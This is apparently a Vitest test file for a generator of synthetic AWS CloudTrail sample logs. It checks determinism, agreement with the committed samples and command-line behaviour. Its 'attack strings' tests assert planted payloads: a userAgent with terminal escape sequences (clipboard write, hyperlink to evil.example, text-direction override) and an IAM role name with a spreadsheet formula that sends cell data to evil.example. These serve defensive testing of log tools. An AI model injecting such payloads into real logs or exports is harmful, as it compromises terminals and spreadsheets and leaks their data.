import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_EVENTS, DEFAULT_SEED, generateSamples } from '../../src/samples/pipeline.js';
import { ESCAPE_USER_AGENT_EVENT_ID, FORMULA_RESOURCE_EVENT_ID } from '../../src/samples/scenarios.js';
import { listFiles, loadTree, uniqueEvents, type Json } from './helpers.js';

const repo = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const temps: string[] = [];
const temp = () => {
  const d = mkdtempSync(path.join(tmpdir(), 'trailtop-gen-'));
  temps.push(d);
  return d;
};
afterAll(() => {
  for (const d of temps) rmSync(d, { recursive: true, force: true });
});

function snapshot(dir: string): Map<string, Buffer> {
  return new Map(listFiles(dir).map((rel) => [rel, readFileSync(path.join(dir, rel))]));
}

describe('determinism', () => {
  it('writes byte-identical files for the same seed, and different ones for another seed', () => {
    const [a, b, c] = [temp(), temp(), temp()];
    generateSamples({ out: a, events: 300, seed: 'x' });
    generateSamples({ out: b, events: 300, seed: 'x' });
    generateSamples({ out: c, events: 300, seed: 'y' });
    const sa = snapshot(a);
    const sb = snapshot(b);
    expect([...sb.keys()]).toEqual([...sa.keys()]);
    for (const [rel, bytes] of sa) expect(bytes.equals(sb.get(rel)!), rel).toBe(true);
    expect([...snapshot(c).keys()]).not.toEqual([...sa.keys()]);
  });

  it('rewrites a folder in place without leftovers from an earlier, bigger run', () => {
    const [a, b] = [temp(), temp()];
    generateSamples({ out: a, events: 2000, seed: 's' });
    generateSamples({ out: a, events: 200, seed: 's' });
    generateSamples({ out: b, events: 200, seed: 's' });
    expect([...snapshot(a).keys()]).toEqual([...snapshot(b).keys()]);
  });

  it('matches the committed samples/ folder (run `npm run samples` after changing the generator)', () => {
    const committed = path.join(repo, 'samples');
    expect(existsSync(path.join(committed, 'AWSLogs')), 'samples/AWSLogs is missing').toBe(true);
    const fresh = temp();
    generateSamples({ out: fresh, events: DEFAULT_EVENTS, seed: DEFAULT_SEED });
    const want = snapshot(fresh);
    const got = new Map([...snapshot(committed)].filter(([rel]) => rel.startsWith('AWSLogs/')));
    expect([...got.keys()]).toEqual([...want.keys()]);
    for (const [rel, bytes] of want) expect(bytes.equals(got.get(rel)!), rel).toBe(true);
    const total = [...got.values()].reduce((n, b) => n + b.length, 0);
    expect(total).toBeLessThan(2 * 1024 * 1024);
  });
});

describe('attack strings', () => {
  let events: Map<string, Json>;
  beforeAll(() => {
    const dir = temp();
    generateSamples({ out: dir, events: 100, seed: 'other' });
    events = uniqueEvents(loadTree(dir).trail);
  });

  it('keeps the escape-sequence userAgent event under its fixed eventID', () => {
    const e = events.get(ESCAPE_USER_AGENT_EVENT_ID);
    expect(e).toBeDefined();
    const ua = String(e!.userAgent);
    expect(ua).toContain('\u001b[2J');
    expect(ua).toMatch(/\u001b\]52;c;[A-Za-z0-9+/=]+\u0007/);
    expect(ua).toContain('\u001b]8;;http://evil.example/\u0007');
    expect(ua).toContain('\u202E');
    expect(e!.eventTime).toBe('2026-11-23T21:38:12Z');
  });

  it('keeps the formula-named role under its fixed eventID', () => {
    const e = events.get(FORMULA_RESOURCE_EVENT_ID);
    expect(e).toBeDefined();
    expect(e!.eventName).toBe('CreateRole');
    expect((e!.requestParameters as Json).roleName).toBe('=HYPERLINK("evil.example?q="&A1,"x")');
    expect(e!.resources).toEqual([{ ARN: 'arn:aws:iam::444455556666:role/=HYPERLINK("evil.example?q="&A1,"x")', accountId: '444455556666', type: 'AWS::IAM::Role' }]);
  });
});

describe('command line', () => {
  const script = path.join(repo, 'dist/samples/generate.js');
  it('exits 2 with a one-line message on bad arguments', () => {
    expect(existsSync(script), 'build first: npx tsc -p tsconfig.json').toBe(true);
    for (const args of [['--events', 'many', '--out', temp()], [], ['--out', temp(), '--bogus']]) {
      const run = spawnSync(process.execPath, [script, ...args], { encoding: 'utf8' });
      expect(run.status, args.join(' ')).toBe(2);
      expect(run.stderr.length).toBeGreaterThan(0);
    }
  });

  it('writes a folder and reports its figures', () => {
    const out = temp();
    const run = spawnSync(process.execPath, [script, '--out', out, '--events', '50', '--seed', 'cli'], { encoding: 'utf8' });
    expect(run.status).toBe(0);
    expect(run.stdout).toMatch(/^wrote \d+ trail files \(\d+ records, \d+ unique, \d+ duplicates\)/);
    expect(listFiles(out).some((rel) => rel.includes('/CloudTrail-Insight/'))).toBe(true);
  });
});
